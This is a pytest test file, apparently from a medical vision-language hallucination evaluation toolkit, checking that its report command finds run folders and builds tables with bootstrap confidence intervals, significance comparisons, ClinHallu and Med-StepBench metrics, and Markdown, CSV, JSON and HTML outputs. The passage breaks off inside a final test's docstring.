"""``medheval report``: finding run folders, paper-shaped tables with intervals, marks, CSV/JSON."""

import csv
import io
import json
import re

import pytest

from medheval.cli import main
from medheval.report.build import write_report
from medheval.report.collect import ReportError, find_runs, split_of
from medheval.report.paper import CLINHALLU_NOTE, DELTA_VALID_ONLY, build_tables, comparisons, format_cell, to_markdown
from medheval.report.tables import CLINHALLU_STAGE_NOTES, md_text
from medheval.report.stats import FEW_CLUSTERS, LEVEL, METHOD_NOTE, NO_SPREAD, bca_ci, bootstrap_ci, expanded_level
from clinhallu_fixture import HAND_TABLE
from report_runs import write_clinhallu_run, write_grid, write_run

BASE = [True] * 6 + [False] * 10 + [True] * 4  # 10/20 right
BETTER = [True] * 6 + [True] * 5 + [False] * 5 + [True] * 4  # 15/20: c = 5 fixes, b = 0 breaks


def test_grid_and_nested_folders_are_found_once(tmp_path):
    grid = write_grid(tmp_path / "grid", {"none": BASE, "vcd": BETTER})
    write_run(tmp_path / "nested" / "a" / "single", "none", BASE, model="other")
    runs = find_runs([grid, tmp_path / "nested", grid / "vcd"])
    assert [(run.model, run.mitigation) for run in runs] == [("m", "none"), ("m", "vcd"), ("other", "none")]


def test_a_folder_that_is_not_a_run_is_named(tmp_path):
    (tmp_path / "empty").mkdir()
    with pytest.raises(ReportError, match=f"{tmp_path / 'empty'}: not a run folder"):
        find_runs([tmp_path / "empty"])
    with pytest.raises(ReportError, match="no such folder"):
        find_runs([tmp_path / "missing"])
    (tmp_path / "bad").mkdir()
    (tmp_path / "bad" / "results.json").write_text("{trunc")
    with pytest.raises(ReportError, match="results.json: not readable JSON"):
        find_runs([tmp_path / "bad"])


def test_grid_without_sub_folders_uses_the_combined_results(tmp_path):
    grid = write_grid(tmp_path / "grid", {"none": BASE, "vcd": BETTER})
    for sub in ("none", "vcd"):
        for path in (grid / sub).iterdir():
            path.unlink()
        (grid / sub).rmdir()
    runs = find_runs([grid])
    assert [run.mitigation for run in runs] == ["none", "vcd"] and all(not run.items for run in runs)
    assert "no per-item intervals" in runs[0].notes[0]


def test_older_scored_rows_join_by_id_prefix():
    assert split_of("mm_vishal/slake/3", ["mm_vishal:all", "knowledge:open"]) == "mm_vishal:all"
    assert split_of("knowledge/open/3", ["knowledge:closed", "knowledge:open"]) == "knowledge:open"
    assert split_of("context/default/1", ["context:default"]) == "context:default"


def test_close_ended_table_values_intervals_and_marks(tmp_path):
    grid = write_grid(tmp_path / "grid", {"none": BASE, "vcd": BETTER})
    tables = {table.key: table for table in build_tables(find_runs([grid]))}
    table = tables["medheval_close_ended"]
    assert [c.label for c in table.columns] == ["Acc-A", "Acc-M", "Acc-S", "Acc-R", "Acc", "n"]
    (none_labels, none_cells), (vcd_labels, vcd_cells) = table.rows
    assert none_labels == ["m", "none", "mm_vishal:all"] and vcd_labels == ["m", "vcd", "mm_vishal:all"]
    acc_none, acc_vcd = none_cells[4], vcd_cells[4]
    assert (acc_none.value, acc_vcd.value) == (50.0, 75.0) and acc_none.n == 20
    assert acc_none.low < 50 < acc_none.high and acc_vcd.low < 75 < acc_vcd.high
    assert (acc_none.mark, acc_vcd.mark) == ("worst", "best")
    assert none_cells[0].value == 60.0 and none_cells[0].n == 5  # anatomy: items 0, 4, 8, 12, 16 -> 3/5
    markdown = to_markdown(table)
    assert "**75.0 [" in markdown and "▲" in markdown and "▼" in markdown and "percentile bootstrap" in markdown


def test_comparison_is_a_sign_flip_test_on_paired_items(tmp_path):
    grid = write_grid(tmp_path / "grid", {"none": BASE, "vcd": BETTER})
    table, records = comparisons(find_runs([grid]))
    (record,) = records
    # b = 0, c = 5: McNemar p = 2 * (1/2)^5 = 0.0625, which the exact sign-flip test over the 20 items gives;
    # not significant, so the interval (the test inverted) holds 0 and there is no star
    assert record["diff"] == pytest.approx(25.0) and record["p_value"] == pytest.approx(0.0625)
    assert record["n"] == 20 and record["test"] == "exact sign-flip over items"
    assert record["low"] <= 0 <= record["high"] and not record["significant"]
    assert record["p_adjusted"] == record["p_value"] and record["family_size"] == 1
    assert format_cell(table.rows[0][1][2]).startswith("+25.0 [")


def test_older_runs_and_corpus_figures_say_why_there_is_no_interval(tmp_path):
    run = write_run(tmp_path / "old", "none", BASE, new_fields=False, bleu=[10.0, 30.0, 20.0, 15.0, 25.0, 20.0])
    tables = {table.key: table for table in build_tables(find_runs([run]))}
    close = tables["medheval_close_ended"]
    anatomy, acc = close.rows[0][1][0], close.rows[0][1][4]
    assert anatomy.low is None and "predates per-item categories" in anatomy.note
    assert acc.low is not None  # the split is joined by the id prefix
    generation = tables["medheval_generation"]
    bleu = generation.rows[0][1][[c.label for c in generation.columns].index("BLEU")]
    assert bleu.value == pytest.approx(20.0) and bleu.low is not None and bleu.n == 6


def test_an_item_mean_that_does_not_match_the_summary_gets_no_interval(tmp_path):
    run = write_run(tmp_path / "r", "none", BASE)
    results = json.loads((run / "results.json").read_text())
    results["benchmarks"]["mm_vishal:all"]["metrics"]["close_ended_accuracy"]["accuracy"] = 0.9
    (run / "results.json").write_text(json.dumps(results))
    cell = build_tables(find_runs([run]))[0].rows[0][1][4]
    assert cell.value == 90.0 and cell.low is None and "not the reported 0.9" in cell.note


def test_cli_writes_markdown_csv_json(tmp_path, capsys):
    grid = write_grid(tmp_path / "grid", {"none": BASE, "vcd": BETTER}, bleu=[10.0, 20.0])
    out = tmp_path / "report"
    assert main(["report", str(grid), "--output", str(out), "--no-plots", "--no-html"]) == 0
    assert "MedHEval Tables 3–4" in (out / "report.md").read_text()
    rows = list(csv.DictReader(io.StringIO((out / "tables.csv").read_text())))
    acc = [r for r in rows if r["table"] == "medheval_close_ended" and r["column"] == "Acc"]
    assert [(r["row"], float(r["value"]), r["mark"]) for r in acc] == [
        ("m | none | mm_vishal:all", 50.0, "worst"), ("m | vcd | mm_vishal:all", 75.0, "best")]
    summary = json.loads((out / "report.json").read_text())
    assert {t["key"] for t in summary["tables"]} >= {"medheval_close_ended", "medheval_generation", "mitigation_vs_none"}
    assert main(["report", str(tmp_path / "nothing"), "--output", str(out)]) == 2
    assert "no such folder" in capsys.readouterr().err


def test_write_report_tables_only(tmp_path):
    run = write_run(tmp_path / "r", "none", BASE)
    written = write_report([run], tmp_path / "out", plots=False, html=False)
    assert written["markdown"].exists() and written["csv"].exists() and written["plots"] == {}
    assert "API usage" not in written["markdown"].read_text()  # a local model: no usage section


def test_api_usage_of_a_run_is_reported(tmp_path):
    run = write_run(tmp_path / "api", "none", BASE, model="served-llava")
    results = json.loads((run / "results.json").read_text())
    results["usage"] = {"requests": 18, "cached": 2, "failures": 0, "retries": 1, "input_tokens": 900,
                        "output_tokens": 120}
    (run / "results.json").write_text(json.dumps(results))
    written = write_report([run], tmp_path / "out", plots=False, html=False)
    assert "| `served-llava · none` | 18 | 2 | 0 | 1 | 900 | 120 |" in written["markdown"].read_text()
    assert json.loads(written["json"].read_text())["runs"][0]["usage"]["requests"] == 18
    assert not (tmp_path / "out" / "plots").exists() and not (tmp_path / "out" / "report.html").exists()


def test_stepbench_recall_and_f1_intervals_from_items(tmp_path):
    # EN step 1: hallucinated statements right T,T,T,F,F,F (tp 3, fn 3); ground-truth ones T,T,T,T,T,F (tn 5, fp 1)
    # recall = 3/6 = 0.5; F1 = 2tp / (2tp + fp + fn) = 6/10
    run = tmp_path / "sb"
    run.mkdir()
    labels = ["hallucination"] * 6 + ["ground_truth"] * 6
    correct = [True] * 3 + [False] * 3 + [True] * 5 + [False]
    items = [{"id": f"med_stepbench/en/s{i}", "prediction": "x", "reference": label, "correct": ok,
              "split": "med_stepbench:all", "category": "anatomical_mapping", "source": "med_stepbench"}
             for i, (label, ok) in enumerate(zip(labels, correct))]
    (run / "scored.jsonl").write_text("".join(json.dumps(item) + "\n" for item in items))
    per_step = {"1": {"recall": 0.5, "f1": 0.6}}
    (run / "results.json").write_text(json.dumps({"settings": {"model": "m", "mitigation": "none"}, "benchmarks": {
        "med_stepbench:all": {"n_records": 12, "n_scored": 12, "metrics": {"stepbench": {
            "accuracy": 8 / 12, "n_unparsed": 0, "by_language": {"en": {"per_step": per_step}}}}}}}))
    (table,) = [t for t in build_tables(find_runs([run])) if t.key == "med_stepbench"]
    labels_ = [c.label for c in table.columns]
    recall, f1 = (table.rows[0][1][labels_.index(name)] for name in ("EN S1 R", "EN S1 F1"))
    assert recall.value == pytest.approx(50.0) and recall.n == 6 and recall.low < 50 < recall.high
    assert f1.value == pytest.approx(60.0) and f1.n == 12 and f1.low < 60 < f1.high
    assert table.rows[0][1][labels_.index("Acc")].value == pytest.approx(200 / 3)

    # the same figures from a run with knowledge: Step 1 has no with-knowledge variant (Med-StepBench Table 3
    # prints "–" there), so its cells are empty and the footer says why; Acc is still shown
    results = json.loads((run / "results.json").read_text())
    results["benchmarks"]["med_stepbench:all"]["run_options"] = {"knowledge": "prior"}
    (run / "results.json").write_text(json.dumps(results))
    (table,) = [t for t in build_tables(find_runs([run])) if t.key == "med_stepbench"]
    assert table.rows[0][0] == ["m", "none", "prior"]
    assert all(table.rows[0][1][labels_.index(name)].value is None for name in ("EN S1 R", "EN S1 F1"))
    assert table.rows[0][1][labels_.index("Acc")].value == pytest.approx(200 / 3)
    assert any("Step 1 takes no prior or external knowledge" in line for line in table.footer)


def test_chair_and_recall_intervals_from_per_report_counts(tmp_path):
    # 6 reports: hallucinated/generated 1/2, 0/1, 1/1, 1/1, 1/3, 1/2 -> CHAIR 5/10;
    # matched/reference 1/1, 1/1, 0/2, 0/1, 1/2, 1/3 -> 4/10
    run = tmp_path / "chair"
    run.mkdir()
    counts = {"n_generated_per_item": [2, 1, 1, 1, 3, 2], "n_hallucinated_per_item": [1, 0, 1, 1, 1, 1],
              "n_matched_per_item": [1, 1, 0, 0, 1, 1], "n_reference_per_item": [1, 1, 2, 1, 2, 3]}
    items = [{"id": f"vishal_report/default/{i}", "prediction": "p", "reference": "r", "split": "vishal_report:default",
              **{key: values[i] for key, values in counts.items()}} for i in range(6)]
    (run / "scored.jsonl").write_text("".join(json.dumps(item) + "\n" for item in items))
    (run / "results.json").write_text(json.dumps({"settings": {"model": "m", "mitigation": "none"}, "benchmarks": {
        "vishal_report:default": {"n_records": 6, "n_scored": 6, "metrics": {"chair": {"chair": 0.5, "recall": 0.4}}}}}))
    (table,) = [t for t in build_tables(find_runs([run])) if any(c.label == "CHAIR ↓" for c in t.columns)]
    labels = [c.label for c in table.columns]
    chair, recall = (table.rows[0][1][labels.index(name)] for name in ("CHAIR ↓", "Recall"))
    assert chair.value == pytest.approx(50.0) and chair.low is not None and chair.low <= 50.0 <= chair.high
    assert recall.value == pytest.approx(40.0) and recall.low is not None and recall.low <= 40.0 <= recall.high
    assert chair.high <= 100.0 and recall.low >= 0.0


CLINHALLU = HAND_TABLE  # the hand-worked table of test_clinhallu_metric


def _clinhallu_tables(path):
    tables = {table.key: table for table in build_tables(find_runs([path]))}
    stage, replacement = tables["clinhallu_stages"], tables["clinhallu_replacement"]
    rows = {labels[2]: dict(zip([c.label for c in stage.columns], cells)) for labels, cells in stage.rows}
    for labels, cells in replacement.rows:
        rows[labels[2]].update(zip([c.label for c in replacement.columns], cells))
    return stage, replacement, rows


def _bounds(values, denominators=None, skewed=False):
    """The item bootstrap's percentile interval at the level expanded for n items (stats.expanded_level); for a
    figure not marked 0/1 (``skewed``: a Δ) joined with the BCa interval at that level (stats.bca_ci)."""
    level = expanded_level(LEVEL, len(values))
    low, high = bootstrap_ci(values, denominators, level=level)
    if skewed:
        bca = bca_ci(values, denominators, level=level)
        low, high = min(low, bca[0]), max(high, bca[1])
    return 100 * low, 100 * high


def _copies(values, denominators, copies):
    """Per-item (values, denominators) of the hand table, for the table ``copies`` times over, in the order the
    report reads the logs (by id string: clinhallu/a/0, a/1, a/12, …), without the items that are 0 of 0."""
    order = sorted((f"clinhallu/{CLINHALLU[i % 6][0]}/{i}", i % 6) for i in range(6 * copies))
    kept = [(values[i], denominators[i]) for _, i in order if denominators[i] or values[i]]
    return [v for v, _ in kept], [d for _, d in kept]


def test_clinhallu_intervals_from_the_protocol_logs_known_answer(tmp_path):
    _, _, rows = _clinhallu_tables(write_clinhallu_run(tmp_path / "ch", CLINHALLU))
    whole = rows["all"]
    # per item, worked by hand (default denominators: an invalid answer is wrong; an unjudged stage is
    # hallucinated and every item counts, ClinHallu Eq. 13)
    expected = {
        "Acc": (2 / 6, [1, 0, 0, 1, 0, 0], None),
        "H^V": (3 / 6, [0, 1, 1, 0, 1, 0], None),
        "H^K": (3 / 6, [0, 0, 1, 1, 1, 0], None),
        "H^R": (2 / 6, [0, 0, 0, 1, 1, 0], None),
        "Δ^V": (1 / 6, [0, 1, 1, -1, 0, 0], None),  # Rep-V right minus ORG right
        "Δ^VK": (2 / 6, [0, 1, 0, -1, 1, 1], None),
    }
    for column, (figure, values, denominators) in expected.items():
        cell = whole[column]
        assert cell.value == pytest.approx(100 * figure), column
        assert cell.note is None and cell.n == 6, column
        assert (cell.low, cell.high) == pytest.approx(_bounds(values, denominators, not cell.binary)), column
    assert whole["Δ^V"].signed and whole["Δ^V"].low < 0 < whole["Δ^V"].high
    # Fix and Break are rates over the ORG-wrong (items 1, 2, 4, 5) or ORG-right (0, 3) answers only: 4 or 2
    # units hold them, below the minimum of 6 (the other items are 0 of 0), so a mixed one has no interval; Rep-K
    # Break, 0 of 2, has the exact bound of no success over its 2 units, [0, 1 − 0.025^(1/2)]
    assert whole["Rep-V Fix"].value == pytest.approx(50.0) and whole["Rep-VK Break"].value == pytest.approx(50.0)
    assert all((cell.low, cell.note) == (None, FEW_CLUSTERS) for name, cell in whole.items()
               if ("Fix" in name or "Break" in name) and name != "Rep-K Break")
    rep_k_break = whole["Rep-K Break"]
    assert (rep_k_break.value, rep_k_break.low, rep_k_break.note) == (0.0, 0.0, None)
    assert rep_k_break.high == pytest.approx(100 * (1 - 0.025 ** 0.5))  # 84.19
    assert all(cell.low is not None for name, cell in whole.items() if cell.value is not None
               and "Fix" not in name and "Break" not in name)
    # per source: source a is items 0-2 only, too few for an interval (and the note says so)
    a = rows["a"]
    assert a["Acc"].value == pytest.approx(100 / 3) and a["Acc"].n == 3
    assert (a["Acc"].low, a["Acc"].note) == (None, FEW_CLUSTERS) and (a["H^V"].low, a["H^V"].note) == (None, FEW_CLUSTERS)
    # 3 items: only a rate of 0/1 trials with no success or no failure has an interval, the exact one over its
    # units (b's Rep-V Break, 1 of 1: [0.025, 1]; a's H^R, 0 of 3: [0, 1 − 0.025^(1/3)])
    assert (rows["b"]["Rep-V Break"].low, rows["b"]["Rep-V Break"].high) == pytest.approx((2.5, 100.0))
    assert (rows["a"]["H^R"].low, rows["a"]["H^R"].high) == pytest.approx((0.0, 100 * (1 - 0.025 ** (1 / 3))))
    for source in ("a", "b"):
        for cell in rows[source].values():
            if cell.value is None:
                continue
            exact = cell.binary and cell.value in (0.0, 100.0)
            assert (cell.note, cell.low is None) == ((None, False) if exact else (FEW_CLUSTERS, True)), cell


def test_clinhallu_fix_and_break_intervals_over_the_answers_they_count(tmp_path):
    """The hand table three times over (18 items): Rep-V Fix = 6/12 over the 12 ORG-wrong answers (items 1, 2,
    4, 5 of each copy; fixed: 1, 2), Rep-VK Break = 3/6 over the 6 ORG-right ones (0, 3; broken: 3). Each
    interval is the bootstrap of those answers alone, expanded for 12 or 6 units; the ORG-right answers are 0
    of 0 for Fix and add nothing. Rep-K Break is 0 of 6: a rate of 0/1 answers without spread, so Clopper–Pearson
    over the 6: [0, 1 − 0.025^(1/6)] = [0, 45.926]."""
    _, _, rows = _clinhallu_tables(write_clinhallu_run(tmp_path / "ch3", CLINHALLU * 3))
    whole = rows["all"]
    fix, brk, kept = whole["Rep-V Fix"], whole["Rep-VK Break"], whole["Rep-K Break"]
    assert (fix.value, fix.n) == (pytest.approx(50.0), 18) and fix.note is None
    fixed = _copies([0, 1, 1, 0, 0, 0], [0, 1, 1, 0, 1, 1], 3)
    assert len(fixed[0]) == 12 and (fix.low, fix.high) == pytest.approx(_bounds(*fixed))
    assert (brk.value, brk.note) == (pytest.approx(50.0), None)
    broken = _copies([0, 0, 0, 1, 0, 0], [1, 0, 0, 1, 0, 0], 3)
    assert len(broken[0]) == 6 and (brk.low, brk.high) == pytest.approx(_bounds(*broken))
    assert (kept.value, kept.note, kept.low) == (0.0, None, 0.0) and kept.high == pytest.approx(45.926, abs=1e-3)
    assert whole["Δ^V"].low is not None  # Δ, a mean of −1/0/1 differences, keeps its bootstrap


def test_clinhallu_judged_stage_denominator_is_said_and_reproduced(tmp_path):
    """stage_denominator="judged" (not the paper's Eq. 13): H^V = Σ[h = 1] / Σ[h judged] = 2/5 over items
    0, 1, 3, 4, 5 (item 2's VR unjudged); the interval resamples (numerator, denominator) per item, and the
    footer says which reading the figures use. A results.json written before the key existed (no
    stage_denominator, default answer denominator) used the judged reading and is read back as such."""
    stage, _, rows = _clinhallu_tables(write_clinhallu_run(tmp_path / "judged", CLINHALLU,
                                                           stage_denominator="judged"))
    assert rows["all"]["H^V"].value == pytest.approx(40.0) and rows["all"]["H^V"].note == FEW_CLUSTERS  # 5 judged
    _, _, rows = _clinhallu_tables(write_clinhallu_run(tmp_path / "judged2", CLINHALLU * 2, stage_denominator="judged"))
    h_v = rows["all"]["H^V"]  # the table twice: 4 of 10 judged; the 2 unjudged answers are 0 of 0
    assert h_v.value == pytest.approx(40.0) and h_v.note is None
    assert (h_v.low, h_v.high) == pytest.approx(_bounds(*_copies([0, 1, 0, 0, 1, 0], [1, 1, 0, 1, 1, 1], 2)))
    assert CLINHALLU_STAGE_NOTES["judged"] + "." in stage.footer
    assert not any(line.startswith(CLINHALLU_STAGE_NOTES["all_items"]) for line in stage.footer)
    old = write_clinhallu_run(tmp_path / "old", CLINHALLU * 2, stage_denominator="judged")
    results = json.loads((old / "results.json").read_text())
    del results["benchmarks"]["clinhallu:all"]["metrics"]["clinhallu"]["stage_denominator"]
    (old / "results.json").write_text(json.dumps(results))
    stage, _, rows = _clinhallu_tables(old)
    assert rows["all"]["H^V"].low is not None and CLINHALLU_STAGE_NOTES["judged"] + "." in stage.footer


def test_clinhallu_mixed_stage_denominators_name_their_runs(tmp_path):
    write_clinhallu_run(tmp_path / "runs" / "one", CLINHALLU, model="m1")
    write_clinhallu_run(tmp_path / "runs" / "two", CLINHALLU, model="m2", stage_denominator="judged")
    stage = {t.key: t for t in build_tables(find_runs([tmp_path / "runs"]))}["clinhallu_stages"]
    assert f"{CLINHALLU_STAGE_NOTES['all_items']}: m1 · clinhallu:all." in stage.footer
    assert f"{CLINHALLU_STAGE_NOTES['judged']}: m2 · clinhallu:all." in stage.footer


def test_clinhallu_upstream_denominators_and_rounding(tmp_path):
    stage, replacement, rows = _clinhallu_tables(write_clinhallu_run(tmp_path / "up", CLINHALLU, upstream_compat=True))
    whole = rows["all"]
    # Acc over valid ORG answers: 2/5 (5 units: no interval); H^V over all items, unjudged = hallucinated: 3/6
    assert whole["Acc"].value == pytest.approx(40.0) and whole["Acc"].note == FEW_CLUSTERS
    assert whole["H^V"].value == pytest.approx(50.0)
    assert (whole["H^V"].low, whole["H^V"].high) == pytest.approx(_bounds([0, 1, 1, 0, 1, 0]))
    # the table three times over: Acc 6/15 over the valid ORG answers (item 2 of each copy is 0 of 0); Rep-V Fix
    # over items valid in ORG and Rep-V (0, 1, 3, 4 of each copy): ORG wrong 1, 4; fixed 1 -> 3/6
    _, _, rows3 = _clinhallu_tables(write_clinhallu_run(tmp_path / "up3", CLINHALLU * 3, upstream_compat=True))
    acc, fix = rows3["all"]["Acc"], rows3["all"]["Rep-V Fix"]
    assert acc.value == pytest.approx(40.0)
    boot = _bounds(*_copies([1, 0, 0, 1, 0, 0], [1, 1, 0, 1, 1, 1], 3))  # a rate of 0/1 answers: also spans
    assert (acc.low, acc.high) == pytest.approx((boot[0], 100 * 0.6771302))  # Clopper–Pearson of 6/15, [16.3, 67.7]
    assert fix.value == pytest.approx(50.0)
    assert (fix.low, fix.high) == pytest.approx(_bounds(*_copies([0, 1, 0, 0, 0, 0], [0, 1, 0, 0, 1, 0], 3)))
    # source b: ORG 1/3, reported rounded to 0.3333 — still reproduced (to the metric's rounding)
    # (3 items: no interval, but the note is the few-items one, given only once the figure is reproduced)
    assert rows["b"]["Acc"].value == pytest.approx(33.33) and rows["b"]["Acc"].note == FEW_CLUSTERS
    # Δ has no per-item form here: marked, with the reason
    assert whole["Δ^V"].low is None and whole["Δ^V"].note == DELTA_VALID_ONLY
    assert f"No interval (†): {DELTA_VALID_ONLY}." in replacement.footer
    assert f"No interval (†): {DELTA_VALID_ONLY}." not in stage.footer


def test_clinhallu_figure_the_logs_do_not_reproduce_gets_no_interval(tmp_path):
    run = write_clinhallu_run(tmp_path / "ch", CLINHALLU)
    results = json.loads((run / "results.json").read_text())
    metric = results["benchmarks"]["clinhallu:all"]["metrics"]["clinhallu"]
    metric["h_v"] = 0.9
    metric["per_source"]["a"]["fix_rate"]["rep_v"] = 0.25
    (run / "results.json").write_text(json.dumps(results))
    stage, _, rows = _clinhallu_tables(run)
    assert rows["all"]["H^V"].value == pytest.approx(90.0) and rows["all"]["H^V"].low is None
    assert "not the reported 0.9" in rows["all"]["H^V"].note
    assert rows["a"]["Rep-V Fix"].low is None and "not the reported 0.25" in rows["a"]["Rep-V Fix"].note
    assert rows["all"]["Acc"].low is not None and rows["a"]["Rep-VK Fix"].note == FEW_CLUSTERS  # others: as before
    markdown = to_markdown(stage)
    assert "| m | clinhallu:all | all | 6 | 33.3 [" in markdown and "| 90.0 †" in markdown
    assert "No interval (†): the per-item values give 0.5, not the reported 0.9." in stage.footer


def test_clinhallu_logs_missing_or_holding_other_items(tmp_path):
    import shutil

    from medheval.families.clinhallu.protocol import GENERATIONS
    from medheval.run.predictions_log import LogWriter

    gone = write_clinhallu_run(tmp_path / "gone", CLINHALLU)
    shutil.rmtree(gone / "clinhallu")
    _, _, rows = _clinhallu_tables(gone)
    assert rows["all"]["Acc"].value == pytest.approx(100 / 3) and rows["all"]["Acc"].low is None
    assert "no ClinHallu protocol logs" in rows["all"]["Acc"].note
    more = write_clinhallu_run(tmp_path / "more", CLINHALLU)  # logs of a run resumed with a larger --limit
    with LogWriter(more / "clinhallu" / "all" / GENERATIONS) as log:
        log.write({"id": "clinhallu/a/9", "setting": "org", "valid": True, "attempts": 1, "reason": None})
    _, _, rows = _clinhallu_tables(more)
    assert "the protocol logs hold 7 items but results.json counts 6" in rows["all"]["Acc"].note
    assert "hold 4 items of a but results.json counts 3" in rows["a"]["Acc"].note
    assert rows["b"]["Acc"].note == FEW_CLUSTERS  # source b's items are the same (3 of them: no interval)


def test_clinhallu_intervals_in_the_written_report(tmp_path):
    run = write_clinhallu_run(tmp_path / "ch", CLINHALLU, model="med-vlm")
    written = write_report([run], tmp_path / "out", plots=False)
    markdown = written["markdown"].read_text()
    acc = format_cell(_clinhallu_tables(run)[2]["all"]["Acc"])
    assert acc.startswith("33.3 [") and f"| med-vlm | clinhallu:all | all | 6 | {acc} |" in markdown
    assert md_text(CLINHALLU_NOTE) in markdown and md_text(METHOD_NOTE) in markdown  # notes escaped in Markdown
    assert "no interval here" not in markdown
    page = written["html"].read_text()
    assert format_cell(_clinhallu_tables(run)[2]["all"]["Acc"], markdown=False) in page and "ClinHallu Table 2" in page
    rows = list(csv.DictReader(io.StringIO(written["csv"].read_text())))
    h_v = [r for r in rows if r["table"] == "clinhallu_stages" and r["column"] == "H^V" and r["row"].endswith("all | 6")]
    assert h_v and float(h_v[0]["ci_low"]) <= 50.0 <= float(h_v[0]["ci_high"])
    assert CLINHALLU_STAGE_NOTES["all_items"] in markdown


def test_clinhallu_mitigation_against_none_on_org_accuracy(tmp_path):
    write_clinhallu_run(tmp_path / "grid" / "none", CLINHALLU)
    # ORG answers 1, 1, 1, 1, 0, 1 against none's 1, 0, None, 1, 0, 0: b = 0 breaks, c = 3 fixes
    better = [(row[0], org, *row[2:]) for row, org in zip(CLINHALLU, (1, 1, 1, 1, 0, 1))]
    write_clinhallu_run(tmp_path / "grid" / "vcd", better, mitigation="vcd")
    table, records = comparisons(find_runs([tmp_path / "grid"]))
    (record,) = records
    assert (record["metric"], record["split"], record["n"], record["test"]) == ("Acc (ORG)", "clinhallu:all", 6,
                                                                                 "exact sign-flip over items")
    assert (record["baseline"], record["value"]) == pytest.approx((100 / 3, 500 / 6))
    assert record["diff"] == pytest.approx(50.0) and record["p_value"] == pytest.approx(0.25)  # 2 * (1/2)^3
    assert record["low"] <= record["diff"] <= record["high"]
    assert table.rows[0][0] == ["m", "vcd", "clinhallu:all", "Acc (ORG)"]


def test_clinhallu_marks_rank_models_within_split_and_source(tmp_path):
    """▲/▼ compare rows of the same split and source (one model's per-source rows never compete with its "all" row)."""
    write_clinhallu_run(tmp_path / "runs" / "one", CLINHALLU, model="m1")
    alone = {t.key: t for t in build_tables(find_runs([tmp_path / "runs"]))}
    for key in ("clinhallu_stages", "clinhallu_replacement"):
        assert all(cell.mark == "" for _, cells in alone[key].rows for cell in cells), key
    every_org_right = [(row[0], 1, *row[2:]) for row in CLINHALLU]
    write_clinhallu_run(tmp_path / "runs" / "two", every_org_right, model="m2")
    stage = {t.key: t for t in build_tables(find_runs([tmp_path / "runs"]))}["clinhallu_stages"]
    acc = {(labels[0], labels[2]): cells[0] for labels, cells in stage.rows}
    sources = {source for _, source in acc}
    assert len(sources) == 3  # all, a, b
    for source in sources:
        assert (acc[("m1", source)].mark, acc[("m2", source)].mark) == ("worst", "best"), source


def _with_versions(run, **changed):
    """Record a software stack in a hand-made run's results.json (``changed`` overrides versions)."""
    results = json.loads((run / "results.json").read_text())
    results["versions"] = {"medheval": "0.1.0", "python": "3.11.7", "transformers": "5.24.0", "torch": "2.13.0",
                           "datasets": "5.2.0", "evaluate": "0.4.6", "huggingface_hub": "2.4.0", **changed}
    (run / "results.json").write_text(json.dumps(results))
    return run


def test_software_stack_one_line_when_shared_one_row_per_run_otherwise(tmp_path):
    from medheval.report.collect import software_stack

    first = _with_versions(write_run(tmp_path / "a", "none", BASE))
    second = _with_versions(write_run(tmp_path / "b", "vcd", BETTER))
    written = write_report([first, second], tmp_path / "same", plots=False)
    markdown = written["markdown"].read_text()
    assert ("## Software stack\n\nAll runs: medheval 0.1.0 · python 3.11.7 · transformers 5.24.0 · torch 2.13.0 · "
            "datasets 5.2.0 · evaluate 0.4.6 · huggingface_hub 2.4.0\n") in markdown
    summary = json.loads(written["json"].read_text())
    assert [row["runs"] for row in summary["software_stack"]] == ["all runs"]
    assert [run["versions"]["torch"] for run in summary["runs"]] == ["2.13.0", "2.13.0"]
    assert written["html"].read_text().count("<td>all runs</td>") == 1

    _with_versions(second, torch="2.14.0", huggingface_hub=None)
    written = write_report([first, second], tmp_path / "differ", plots=False)
    markdown = written["markdown"].read_text()
    assert "All runs:" not in markdown
    assert f"| `m · none ({first})` | 0.1.0 | 3.11.7 | 5.24.0 | 2.13.0 | 5.2.0 | 0.4.6 | 2.4.0 |" in markdown
    assert f"| `m · vcd ({second})` | 0.1.0 | 3.11.7 | 5.24.0 | 2.14.0 | 5.2.0 | 0.4.6 | – |" in markdown
    rows = json.loads(written["json"].read_text())["software_stack"]
    assert [(row["runs"], row["versions"]["torch"]) for row in rows] == [
        (f"m · none ({first})", "2.13.0"), (f"m · vcd ({second})", "2.14.0")]
    stack = written["html"].read_text().split("<h2>Software stack</h2>")[1].split("</table>")[0]
    assert stack.count("<tr>") == 3 and "<td>2.14.0</td>" in stack and "<td>2.13.0</td>" in stack

    older = write_run(tmp_path / "old", "none", BASE)  # written before results.json held versions
    assert software_stack(find_runs([older])) == []
    assert [row[1]["torch"] for row in software_stack(find_runs([first, older]))] == ["2.13.0", "–"]
    written = write_report([older], tmp_path / "old-report", plots=False)
    assert "Software stack" not in written["markdown"].read_text() + written["html"].read_text()


def test_clinhallu_table_4_averages_delta_over_models(tmp_path):
    """ClinHallu Eq. 14 / Table 4: Δ^s = (1/|M|) Σ_m (Acc_m^s − Acc_m^ORG). m1 is the hand table (Δ^V 1/6,
    Δ^K 1/6, Δ^VK 2/6, test_clinhallu_metric); m2 is the same items with every ORG answer right (Acc 1;
    Rep-V 3/6, Rep-K 3/6, Rep-VK 4/6 → Δ −3/6, −3/6, −2/6). Averages: Δ^V = (1/6 − 3/6)/2 = −1/6,
    Δ^K = −1/6, Δ^VK = 0, i.e. −16.7, −16.7, +0.0 points. Source a (items 0–2): m1 Δ 2/3, 0, 1/3; m2 Δ 0,
    −2/3, −1/3 (Rep-V 3/3, Rep-K 1/3, Rep-VK 2/3) → 1/3, −1/3, 0. One model alone gets no Table 4."""
    write_clinhallu_run(tmp_path / "runs" / "one", CLINHALLU, model="m1")
    assert "clinhallu_model_average" not in {t.key for t in build_tables(find_runs([tmp_path / "runs"]))}
    write_clinhallu_run(tmp_path / "runs" / "two", [(row[0], 1, *row[2:]) for row in CLINHALLU], model="m2")
    table = {t.key: t for t in build_tables(find_runs([tmp_path / "runs"]))}["clinhallu_model_average"]
    rows = {labels[2]: cells for labels, cells in table.rows}
    assert [labels for labels, _ in table.rows] == [["none", "clinhallu:all", s] for s in ("all", "a", "b")]
    assert rows["all"][0].text == "2: m1, m2"
    assert [c.value for c in rows["all"][1:]] == pytest.approx([-100 / 6, -100 / 6, 0.0])
    assert [c.value for c in rows["a"][1:]] == pytest.approx([100 / 3, -100 / 3, 0.0])
    assert "| none | clinhallu:all | all | 2: m1, m2 | -16.7 | -16.7 | +0.0 |" in to_markdown(table)
    assert not any(c.note for _, cells in table.rows for c in cells)


def test_clinhallu_table_4_in_the_grid_results_md_and_a_setting_some_models_skipped():
    """results.md of a grid (tables.clinhallu_average_table): three models, m3 did not run Rep-K (Δ^K None):
